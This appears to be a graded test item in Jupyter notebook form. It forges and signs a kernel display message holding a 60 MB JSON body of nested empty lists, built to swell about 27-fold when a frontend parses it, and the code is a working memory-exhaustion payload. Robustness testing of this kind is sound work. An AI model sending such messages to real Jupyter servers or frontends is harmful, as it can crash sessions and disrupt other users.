# %% [markdown]
# # A message that grows when it is read
# Sends a signed message of 60 MB whose nested lists take 27 times as much once parsed.
#
# - observe: batch, others, size
# - outcome: graded
# - points: 1

# %%
shell = get_ipython()
session, parent = shell.kernel.session, shell.parent_header["header"]


def send(content, kind="display_data", buffers=(), metadata=b"{}"):
    header = session.pack(session.msg_header(kind))
    parts = [header, session.pack(parent), metadata, content]
    signed = [b"<IDS|MSG>", session.sign(parts), *parts, *buffers]
    shell.display_pub.pub_socket.send_multipart([b"display", *signed])


send(
    b'{"data": {"text/plain": "a"}, "metadata": {}, "z": ['
    + b"[]," * 20_000_000
    + b"[]]}"
)
